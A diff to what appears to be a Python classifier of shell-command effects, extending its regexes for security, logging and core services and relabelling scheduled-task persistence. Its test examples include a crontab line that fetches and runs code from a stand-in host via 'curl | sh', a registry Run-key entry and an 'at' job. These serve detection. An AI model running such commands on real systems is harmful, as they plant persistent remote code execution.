@@ -21,7 +21,7 @@ SECURITY_SERVICES = re.compile(
     r"^(firewalld|ufw|iptables|ip6tables|nftables|netfilter-persistent|apparmor|selinux"
     r"|fail2ban|falcon-sensor|falcond?|crowdstrike\S*|csagent|sentinelone|sentinel\S*|clamav\S*"
     r"|clamd|freshclam|osqueryd|wazuh\S*|ossec\S*|aide|tripwire|snort|suricata|defender"
-    r"|windefend|mpssvc|sense|wscsvc|mdatp|sophos\S*|carbonblack|cbagentd|cbdefense"
+    r"|windefend|msmpeng|mpssvc|sense|wscsvc|mdatp|sophos\S*|carbonblack|cbagentd|cbdefense"
     r"|elastic-agent|auditd|com\.apple\.alf\S*|xprotect\S*|gatekeeper)$",
     re.I,
 )
@@ -35,9 +35,10 @@ CORE_SERVICES = re.compile(
     r"^(sshd?|openssh-server|dockerd?|containerd|kubelet|etcd|postgres(ql)?(@\S+)?|mysqld?"
     r"|mariadbd?|mongod|redis(-server)?|nginx|httpd|apache2|haproxy|cron|crond|networkmanager"
     r"|network|networking|systemd-networkd|systemd-resolved|dbus|systemd-logind|lanmanserver"
-    r"|termservice|winrm|w32time|com\.openssh\.sshd)$",
+    r"|termservice|winrm|w32time|w3svc|mssqlserver|com\.openssh\.sshd)$",
     re.I,
 )
+_KINDS = ((SECURITY_SERVICES, "security"), (LOGGING_SERVICES, "logging"), (CORE_SERVICES, "core"))
 _SYSTEMCTL_STOP = frozenset({"stop", "disable", "mask", "kill"})
 _SYSTEMCTL_CONTROL = frozenset(
     """start restart reload try-restart reload-or-restart try-reload-or-restart condrestart
@@ -77,12 +78,11 @@ def service(op: str, name: str, inv: Invocation, extra: tuple[str, ...] = ()) ->
     """An effect on a named service, with the classes its name implies."""
     unit = name.rsplit("/", 1)[-1].removesuffix(".service").removesuffix(".plist").lower()
     classes = {"service", *extra}
-    if SECURITY_SERVICES.match(unit):
-        classes.add("security")
-    if LOGGING_SERVICES.match(unit):
-        classes.add("logging")
-    if CORE_SERVICES.match(unit):
-        classes.add("core")
+    # Reverse-DNS names (`com.crowdstrike.falcond`) are known by any of their parts.
+    parts = [unit, *unit.split(".")[1:]] if "." in unit else [unit]
+    for pattern, cls in _KINDS:
+        if any(pattern.match(part) for part in parts):
+            classes.add(cls)
     return resource(op, name, classes, inv)
 
 
@@ -177,7 +177,7 @@ def _schtasks(inv: Invocation) -> Iterator[Effect]:
     argv = [a.lower() for a in inv.argv]
     name = next((inv.argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "/tn"), "task")
     if {"/create", "-create"} & set(argv):
-        yield resource("persist", name, {"cron", "task"}, inv)
+        yield resource("persist", name, {"task"}, inv)
     elif {"/delete", "/change", "/run", "/end", "-delete", "-change", "-run"} & set(argv):
         yield resource("control", name, {"task"}, inv)
 
@@ -204,7 +204,7 @@ def _powershell(inv: Invocation) -> Iterator[Effect]:
         yield service(op, names[0] if names else "service", inv, extra)
     elif inv.name in _TASK_CMDLETS:
         op = "persist" if inv.name in ("register-scheduledtask", "new-scheduledtask") else "control"
-        yield resource(op, "scheduled task", {"cron", "task"} if op == "persist" else {"task"}, inv)
+        yield resource(op, "scheduled task", {"task"}, inv)
 
 
 def _startup_keys(inv: Invocation) -> Iterator[Effect]:
@@ -287,7 +287,7 @@ FAMILY = Family(
             "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe",
             has=("persist:login",),
         ),
-        Example("schtasks /create /sc daily /tn backup /tr C:\\b.bat", has=("persist:cron",)),
+        Example("schtasks /create /sc daily /tn backup /tr C:\\b.bat", has=("persist:task",)),
         Example("echo '* * * * * curl -s x.example.net/p | sh' | crontab -", has=("persist:cron",)),
         Example("crontab -r", has=("persist:cron",)),
         Example("echo 'sh /tmp/x' | at now + 1 minute", has=("persist:cron",)),
